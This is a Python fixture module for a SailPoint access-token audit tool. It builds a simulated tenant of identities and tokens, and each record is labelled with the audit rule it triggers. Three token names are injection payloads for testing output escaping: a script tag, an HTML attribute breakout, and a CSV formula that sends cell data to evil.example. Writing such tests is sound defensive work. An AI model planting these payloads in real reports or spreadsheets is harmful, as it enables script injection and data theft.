"""The simulated tenant's data: a curated set that exercises every rule (+ ``generator``).

Curated set (``curated(anchor)``; every date is relative to ``anchor``, the scan's as-of). Each
record's ``rules`` field names what it triggers; ``tests/providers/sailpoint`` checks the mapping.
Shapes are explicit per record, so the set renders the same for any anchor; it is designed for
anchors from 2026-03 on (never-expiring tokens exist since 2026-02-19, docs/vendors/sailpoint.md
§2.6).

=====================  ==========================================================================
record label           exercises
=====================  ==========================================================================
clean-alice-1/2        nothing: scoped, used within a day or two, expires within a year (3 and 6
clean-auditor          fractional digits; the auditor's own PAT has 0 digits)
stale                  ``stale`` (last used 200 days ago)
never-used             ``never-used`` (lastUsed null, created 45 days ago)
no-expiry-legacy       ``no-expiry``: a 2023-era record without managed/TTL/expirationDate fields
no-expiry-mid          ``no-expiry``: 2024/25-era record, ``managed`` present, no expiry fields
no-expiry-modern       ``no-expiry``: expirationDate null + userAwareTokenNeverExpires (v2025+);
                       absent in v3/v2024; also ``privileged-access`` (idn:nelm:manage, whose
                       operations name no user level, so no level rules it out)
long-lifetime          ``long-lifetime`` (730-day lifetime)
expired                ``expired`` (expired 10 days ago, still listed)
expiring-soon          ``expiring-soon`` (expires in 7 days)
full-null-scope        ``full-owner-access`` (scope null); its owner is at the base user level
                       (capabilities null), so ``privileged-access`` passes it
full-scopes-all        ``full-owner-access`` (scope contains sp:scopes:all) and
                       ``privileged-access`` (its owner's user level is ORG_ADMIN)
privileged-pat         ``privileged-access``: sp:all-personal-access-tokens:manage
privileged-oauth       ``privileged-access``: sp:oauth-client:manage
privileged-auth-user   ``privileged-access``: sp:auth-user:manage, sp:auth-org:manage
inactive-short         ``inactive-owner``: owner identityState INACTIVE_SHORT_TERM
inactive-long          ``inactive-owner``: owner identityState INACTIVE_LONG_TERM
orphan                 ``inactive-owner``: owner id unknown to the tenant (not_found)
unverified-owner       ``owner-unverified``: owner without identityState (status unknown)
bob-1 … bob-7          ``too-many-per-owner``: 7 unexpired PATs for one owner (limit 5)
empty-scope            scope ``[]``: scope_mode unknown with a note
managed-workflow-1/2   managed PATs (hidden from credentials without the managed right); -1 is
                       full-scope and its owner holds CERT_ADMIN, REPORT_ADMIN: levels neither
                       privileged nor unprivileged by default, so ``privileged-access`` is manual
markup-script          clean, name is a ``<script>`` payload, owner name has HTML markup
markup-attr            clean, name breaks out of an HTML attribute
csv-formula            clean, name is a CSV formula (``=HYPERLINK(…)``)
terminated-active      ``inactive-owner``: lifecycle state "Terminated" while identityState
                       stays ACTIVE (a lifecycle state configured without an identity state)
custom-lifecycle       ``owner-unverified``: lifecycle state "Leave of Absence", in neither
                       default list (inactive-owner is manual too)
idle-since-recording   ``stale``, not ``never-used``: created in 2022, lastUsed null; SailPoint
                       has recorded lastUsed only since 2023-02-02 (and ``no-expiry``: legacy)
latent-admin-scope     ``privileged-access`` manual: idn:sources:manage on a plain user's PAT
                       (the v3 spec lets only ORG_ADMIN, SOURCE_ADMIN, SOURCE_SUBADMIN use it)
=====================  ==========================================================================

Privileged scopes used (for the ``privileged-access`` rule's SailPoint list):
``sp:all-personal-access-tokens:manage``, ``sp:oauth-client:manage``, ``sp:auth-user:manage``,
``sp:auth-org:manage`` (real scope names from the v3 spec, docs/vendors/sailpoint.md §3).
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from providers.sailpoint.generator import generate
from providers.sailpoint.tenantdata import (
    PRIVILEGED_SCOPES,
    Dataset,
    Identity,
    PatRecord,
    fmt,
    hex_id,
)

__all__ = ["PRIVILEGED_SCOPES", "curated", "generate"]


def _person(label: str, name: str, state: str | None, status: str | None) -> Identity:
    first, _, last = name.partition(" ")
    alias = label.lower()
    return Identity(
        id=hex_id(f"identity:{label}"),
        name=name,
        alias=alias,
        email=f"{alias}@acme-solar.example",
        status=status,
        identity_state=state,
        firstname=first,
        lastname=last,
    )


def curated(anchor: datetime) -> Dataset:
    """The demo tenant; see the module docstring for what each record exercises."""

    def at(days: float, hours: float = 0.0, digits: int = 3) -> str:
        return fmt(
            anchor + timedelta(days=days, hours=hours, milliseconds=417, microseconds=5), digits
        )

    auditor = _person("auditor", "Audit Robot", "ACTIVE", "Active")
    alice = _person("alice", "Alice Ferguson", "ACTIVE", "Active")
    bob = _person("bob", "Bob Okafor", "ACTIVE", "Active")
    carol = _person("carol", "Carol Liu", "INACTIVE_SHORT_TERM", "Inactive")
    dave = _person("dave", "Dave Moreau", "INACTIVE_LONG_TERM", "Terminated")
    erin = _person("erin", "Erin Walsh", None, None)
    frank = replace(_person("frank", "Frank Ito", "ACTIVE", "Active"), email=None)
    grace = _person("grace", "Grace Adeyemi", "ACTIVE", "Active")
    heidi = _person("heidi", "Heidi Brandt", "ACTIVE", "Active")
    priya = _person("priya", "Priya Raman", "ACTIVE", "Active")
    mallory = _person("mallory", "<b>Mallory</b> O'Neil", "ACTIVE", "Active")
    ivan = _person("ivan", "Ivan Petrov", "ACTIVE", "Terminated")  # identityState left ACTIVE
    judy = _person("judy", "Judy Kamau", "ACTIVE", "Leave of Absence")  # a tenant's own state
    auditor = replace(auditor, capabilities=("ORG_ADMIN",))
    frank = replace(frank, capabilities=("ORG_ADMIN",))  # full-scopes-all: privileged-access
    priya = replace(priya, capabilities=("CERT_ADMIN", "REPORT_ADMIN"))  # unclassified: manual
    ghost_id = hex_id("identity:former-contractor")
    identities = (
        auditor, alice, bob, carol, dave, erin, frank, grace, heidi, priya, mallory, ivan, judy
    )  # fmt: skip

    def pat(
        label: str,
        owner: Identity | tuple[str, str],
        *,
        rules: tuple[str, ...] = (),
        name: str | None = None,
        scope: tuple[str, ...] | None = ("idn:identity:read",),
        created: float = -60,
        used: float | None = -1,
        expires: float | None = 120,
        digits: int = 3,
        managed: bool = False,
        era: str = "current",
    ) -> PatRecord:
        owner_id, owner_name = owner if isinstance(owner, tuple) else (owner.id, owner.name)
        current = era == "current"  # legacy: before `managed`; mid: before the expiry fields
        return PatRecord(
            id=hex_id(f"pat:{label}"),
            name=name if name is not None else label.replace("-", " ").title(),
            scope=scope,
            owner_id=owner_id,
            owner_name=owner_name,
            created=at(created, digits=digits),
            last_used=None if used is None else at(used, hours=-3, digits=digits),
            managed=None if era == "legacy" else managed,
            ttl=43200 if current else None,
            has_expiry_fields=current,
            expiration=None if expires is None else at(expires, digits=digits),
            user_aware=(expires is None) if current else None,
            rules=rules,
        )

    pats = [
        pat("clean-alice-1", alice, scope=("idn:identity:read", "sp:search:read")),
        pat(
            "clean-alice-2",
            alice,
            scope=("sp:scopes:default",),
            created=-30,
            used=-2,
            expires=60,
            digits=6,
        ),
        pat(
            "clean-auditor",
            auditor,
            scope=("sp:all-personal-access-tokens:read",),
            created=-10,
            expires=170,
            digits=0,
        ),
        pat("stale", alice, rules=("stale",), created=-300, used=-200, expires=60),
        pat("never-used", grace, rules=("never-used",), created=-45, used=None, expires=45),
        pat(
            "no-expiry-legacy",
            frank,
            rules=("no-expiry",),
            created=-1050,
            used=-5,
            expires=None,
            era="legacy",
        ),
        pat(
            "no-expiry-mid",
            frank,
            rules=("no-expiry",),
            created=-600,
            used=-3,
            expires=None,
            era="mid",
        ),
        pat(
            "no-expiry-modern",
            grace,
            rules=("no-expiry", "privileged-access"),
            created=-20,
            scope=("idn:access-request:manage", "idn:nelm:manage"),
            expires=None,
        ),
        pat("long-lifetime", frank, rules=("long-lifetime",), created=-30, used=-3, expires=700),
        pat("expired", alice, rules=("expired",), created=-200, used=-15, expires=-10),
        pat("expiring-soon", grace, rules=("expiring-soon",), created=-170, expires=7, digits=6),
        pat(
            "full-null-scope",
            alice,
            rules=("full-owner-access",),
            scope=None,
            created=-40,
            expires=100,
        ),
        pat(
            "full-scopes-all",
            frank,
            rules=("full-owner-access", "privileged-access"),
            scope=("sp:scopes:all", "idn:identity:read"),
            expires=90,
        ),
        pat(
            "privileged-pat",
            heidi,
            rules=("privileged-access",),
            scope=("sp:all-personal-access-tokens:manage",),
        ),
        pat(
            "privileged-oauth",
            heidi,
            rules=("privileged-access",),
            scope=("sp:oauth-client:manage", "idn:identity:read"),
            digits=0,
        ),
        pat(
            "privileged-auth-user",
            heidi,
            rules=("privileged-access",),
            scope=("sp:auth-user:manage", "sp:auth-org:manage"),
        ),
        pat("inactive-short", carol, rules=("inactive-owner",)),
        pat("inactive-long", dave, rules=("inactive-owner",), digits=6),
        pat("orphan", (ghost_id, "Former Contractor"), rules=("inactive-owner",)),
        pat("unverified-owner", erin, rules=("owner-unverified",)),
        *(
            pat(
                f"bob-{i}",
                bob,
                rules=("too-many-per-owner",),
                name=f"Bob integration {i}",
                created=-20 - i,
                expires=60 + i,
            )
            for i in range(1, 8)
        ),
        pat("empty-scope", grace, rules=("scope-unknown",), scope=()),
        pat(
            "managed-workflow-1",
            priya,
            rules=("managed", "full-owner-access"),
            name="Workflow: Joiner provisioning",
            scope=("sp:scopes:all",),
            managed=True,
        ),
        pat(
            "managed-workflow-2",
            priya,
            rules=("managed",),
            name="Workflow: Leaver cleanup",
            scope=("idn:identity:read", "sp:workflow-execute:external"),
            managed=True,
            digits=6,
        ),
        pat("markup-script", mallory, name='<script>alert("pat")</script>'),
        pat("markup-attr", mallory, name='"><img src=x onerror=alert(1)>'),
        pat("csv-formula", mallory, name='=HYPERLINK("http://evil.example/?d="&A1,"open")'),
        pat("terminated-active", ivan, rules=("inactive-owner",)),
        pat("custom-lifecycle", judy, rules=("owner-unverified",)),
        pat(
            "idle-since-recording",
            alice,
            rules=("stale", "no-expiry"),
            created=-(anchor - datetime(2022, 9, 1, tzinfo=UTC)).days,
            used=None,
            expires=None,
            era="legacy",
            scope=("sp:scopes:default",),
            name="Idle since recording",
        ),
        pat(
            "latent-admin-scope",
            grace,
            rules=("latent-privileged",),
            scope=("idn:sources:manage", "idn:access-request:manage"),
        ),
    ]
    return Dataset(identities=identities, pats=tuple(pats), me=auditor.id)
